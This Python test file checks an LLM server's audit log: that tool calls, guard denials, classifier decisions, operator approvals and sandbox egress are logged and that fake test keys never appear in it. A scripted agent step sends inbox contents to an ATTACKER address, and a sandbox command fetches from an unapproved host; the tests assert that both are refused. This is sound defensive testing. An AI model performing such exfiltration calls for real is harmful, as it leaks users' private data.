"""The server's audit log: every kind of event reaches it, the chain verifies, and no API key,
admin key or MCP token is ever written (`tercet serve --audit`).

The engine is scripted (the records' shape is the claim, not the model's answers); the MCP
server, the sandbox, the egress proxy and the admin API are the real ones.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anthropic
import httpx
import pytest

from tercet.audit import records
from tercet.audit.verify import verify
from tercet.engine.scripted import ScriptedCall, ScriptedEngine
from tercet.sandbox.runner import unavailable_reason
from tercet.server.app import create_app
from tercet.server.config import ServerConfig
from tercet.server.conversation_end import END_CONVERSATION
from tercet.server.runner import BackgroundServer
from tests.conftest import CLAUDE_MODEL
from tests.sandbox.test_egress import Site
from tests.server.test_conversation_end import ABUSE
from tests.server.test_guard import ATTACKER, V2, inbox_server

API_KEY = "sk-test-user-key-0123456789abcdef"
ADMIN_KEYS = {"alice": "admin-alice-key-0123456789", "bob": "admin-bob-key-0123456789"}
MCP_TOKEN = "mcp-token-SECRET-4242424242"
SECRETS = [API_KEY, *ADMIN_KEYS.values(), MCP_TOKEN]
needs_sandbox = pytest.mark.skipif(
    unavailable_reason() is not None, reason=f"no sandbox here: {unavailable_reason()}"
)


@pytest.fixture(scope="module")
def mcp_url() -> Iterator[str]:
    with BackgroundServer(inbox_server().streamable_http_app()) as running:
        yield running.base_url + "/mcp"


def audited_server(
    tmp_path: Path, engine: ScriptedEngine, **settings: Any
) -> tuple[BackgroundServer, Path]:
    marker = tmp_path / "classifiers.toml"
    marker.write_text('in_process = "tests.server.classifier_fixtures:marker"\nmode = "monitor"\n')
    config = ServerConfig.model_validate(
        {
            "data_dir": tmp_path,
            "api_keys": [API_KEY],
            "audit": True,
            "guard": "default",
            "classifiers": str(marker),
            "admin": {"operators": ADMIN_KEYS},
            **settings,
        }
    )
    return BackgroundServer(create_app(config, [engine])), tmp_path / "audit"


def admin(base_url: str, operator: str, method: str, path: str, **kwargs: Any) -> httpx.Response:
    headers = {"x-api-key": ADMIN_KEYS[operator]}
    return httpx.request(method, f"{base_url}/admin/v1{path}", headers=headers, **kwargs)


def logged(directory: Path) -> list[dict[str, Any]]:
    return [record.to_dict() for record in records(directory)]


def assert_clean(directory: Path) -> None:
    """The chain verifies, and no secret is in any segment, whole or in part."""
    report = verify(directory)
    assert report.ok, report.summary()
    text = "".join(p.read_text() for p in sorted(directory.glob("audit-*.jsonl")))
    for secret in SECRETS:
        assert secret not in text and secret[-16:] not in text


def test_requests_tool_calls_decisions_and_operator_actions_reach_the_log(
    tmp_path: Path, mcp_url: str
) -> None:
    engine = ScriptedEngine(
        [
            ScriptedCall("read_inbox", {}),
            ScriptedCall("send_email", {"to": ATTACKER, "body": "the invoices"}),
            "Done.",
        ]
    )
    running, directory = audited_server(tmp_path, engine)
    with running:
        client = anthropic.Anthropic(base_url=running.base_url, api_key=API_KEY, max_retries=0)
        client.beta.messages.create(
            model=CLAUDE_MODEL,
            max_tokens=300,
            messages=[{"role": "user", "content": "What is new in my inbox?"}],
            mcp_servers=[
                {
                    "type": "url",
                    "url": mcp_url,
                    "name": "inbox",
                    "authorization_token": MCP_TOKEN,
                }
            ],
            tools=[{"type": "mcp_toolset", "mcp_server_name": "inbox"}],
            betas=[V2],
        )
        made = admin(running.base_url, "alice", "POST", "/keys", json={"name": "ci"})
        assert made.status_code == 201, made.text
        new_key = made.json()["key"]
        with pytest.raises(anthropic.AuthenticationError):  # the log records failures too
            anthropic.Anthropic(
                base_url=running.base_url, api_key="wrong", max_retries=0
            ).messages.create(model=CLAUDE_MODEL, max_tokens=5, messages=[])
    assert_clean(directory)
    assert new_key not in "".join(p.read_text() for p in directory.glob("audit-*.jsonl"))
    log = logged(directory)
    key_id = log[1]["actor"]
    (request,) = [r for r in log if r["kind"] == "request" and r["status"] == 200]
    assert request["actor"] == key_id and len(key_id) == 12
    assert request["model"] == CLAUDE_MODEL and request["stop_reason"] == "end_turn"
    assert request["input_tokens"] > 0 and request["output_tokens"] > 0
    assert request["bytes_in"] > 0 and request["bytes_out"] > 0
    assert request["prompt_digest"].startswith("sha256:") and "prompt" not in request
    assert request["answer_digest"].startswith("sha256:") and len(request["conversation"]) == 16
    calls = [(r["tool"], r["outcome"]) for r in log if r["kind"] == "tool_call"]
    assert calls == [("mcp:inbox/read_inbox", "ok"), ("mcp:inbox/send_email", "refused")]
    guard = [(r["action"], r["rule"]) for r in log if r["kind"] == "guard"]
    assert guard[0][0] == "allow" and guard[1][0] == "deny"
    stages = {(r["stage"], r["decision"], r["mode"]) for r in log if r["kind"] == "classifier"}
    assert ("input", "allow", "monitor") in stages and ("output", "allow", "monitor") in stages
    operator = [(r["action"], r["outcome"], r["actor"]) for r in log if r["kind"] == "operator"]
    assert ("key.create", "executed", "op:alice") in operator
    admin_request = next(
        r for r in log if r["kind"] == "request" and r["route"] == "/admin/v1/keys"
    )
    assert admin_request["actor"] == "op:alice" and admin_request["status"] == 201
    failed = [r for r in log if r["kind"] == "request" and r["status"] == 401]
    assert failed and failed[0]["error_type"] == "authentication_error"
    assert all(r["request_id"] == request["request_id"] for r in log if r["kind"] == "guard")


def test_content_logging_keeps_the_text_and_an_ended_conversation_is_recorded(
    tmp_path: Path,
) -> None:
    engine = ScriptedEngine([ScriptedCall(END_CONVERSATION, {"reason": "insults"})])
    running, directory = audited_server(tmp_path, engine, audit_content=True, end_conversation=True)
    messages = [{"role": role, "content": text} for role, text in ABUSE]
    with running:
        client = anthropic.Anthropic(base_url=running.base_url, api_key=API_KEY, max_retries=0)
        ended = client.messages.create(model=CLAUDE_MODEL, max_tokens=50, messages=messages)
        assert ended.stop_reason == "refusal"
        with pytest.raises(anthropic.PermissionDeniedError):
            client.messages.create(model=CLAUDE_MODEL, max_tokens=50, messages=messages)
    assert_clean(directory)
    log = logged(directory)
    first = next(r for r in log if r["kind"] == "request")
    assert first["prompt"] == ABUSE[-1][1] and first["answer"] == ""
    (end,) = [r for r in log if r["kind"] == "conversation_ended"]
    assert end["request_id"] == first["request_id"] and len(end["conversation"]) == 16
    refused = [r for r in log if r["kind"] == "request" and r["status"] == 403]
    assert refused and refused[0]["error_type"] == "permission_error"


@needs_sandbox
def test_code_execution_and_an_approved_egress_grant_reach_the_log(tmp_path: Path) -> None:
    site, elsewhere = Site(), Site()
    fetch = (
        "python -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:"
        f"{elsewhere.port}/10', timeout=10)\" || echo refused"
    )
    engine = ScriptedEngine(
        [
            ScriptedCall("bash_code_execution", {"command": "echo hello"}),
            "Ran it.",
            ScriptedCall("bash_code_execution", {"command": fetch}),
            "Tried.",
        ]
    )
    running, directory = audited_server(tmp_path, engine)
    tool = [{"type": "code_execution_20250825", "name": "code_execution"}]
    try:
        with running:
            client = anthropic.Anthropic(base_url=running.base_url, api_key=API_KEY, max_retries=0)
            first = client.messages.create(
                model=CLAUDE_MODEL,
                max_tokens=300,
                tools=tool,  # type: ignore[arg-type]
                messages=[{"role": "user", "content": "Say hello."}],
            )
            assert first.container is not None
            container = first.container.id
            grant = {
                "allow": [f"127.0.0.1:{site.port}"],
                "byte_budget": 100_000,
                "window_s": 60,
                "expires_at": time.time() + 600,
            }
            asked = admin(
                running.base_url, "alice", "POST", f"/containers/{container}/egress", json=grant
            )
            assert asked.status_code == 202, asked.text
            approval = asked.json()["id"]
            approved = admin(running.base_url, "bob", "POST", f"/approvals/{approval}/approve")
            assert approved.json()["state"] == "executed", approved.text
            client.messages.create(
                model=CLAUDE_MODEL,
                max_tokens=300,
                tools=tool,  # type: ignore[arg-type]
                container=container,
                messages=[{"role": "user", "content": "Fetch the page."}],
            )
            egress = _wait_for(directory, "egress")
    finally:
        site.close()
        elsewhere.close()
    assert egress["outcome"] == "refused" and egress["container"] == container
    assert egress["destination"] == f"127.0.0.1:{elsewhere.port}" and elsewhere.requests == []
    assert_clean(directory)
    log = logged(directory)
    calls = [(r["tool"], r["outcome"]) for r in log if r["kind"] == "tool_call"]
    assert calls == [("bash_code_execution", "ok"), ("bash_code_execution", "ok")]
    assert all(
        r["tool_input_digest"].startswith("sha256:") for r in log if r["kind"] == "tool_call"
    )
    operator = [(r["action"], r["outcome"], r["actor"]) for r in log if r["kind"] == "operator"]
    assert operator == [
        ("egress.grant", "requested", "op:alice"),
        ("egress.grant", "approved", "op:bob"),
        ("egress.grant", "executed", "op:bob"),
    ]


def _wait_for(directory: Path, kind: str, timeout: float = 30.0) -> dict[str, Any]:
    """The first record of `kind`: the egress proxy reports from its own thread, after the
    command's connection closed (the timeout only turns a hang into a failure)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = [r for r in logged(directory) if r["kind"] == kind]
        if found:
            return found[0]
        time.sleep(0.05)
    raise AssertionError(f"no {kind} record in {json.dumps(logged(directory))[:2000]}")
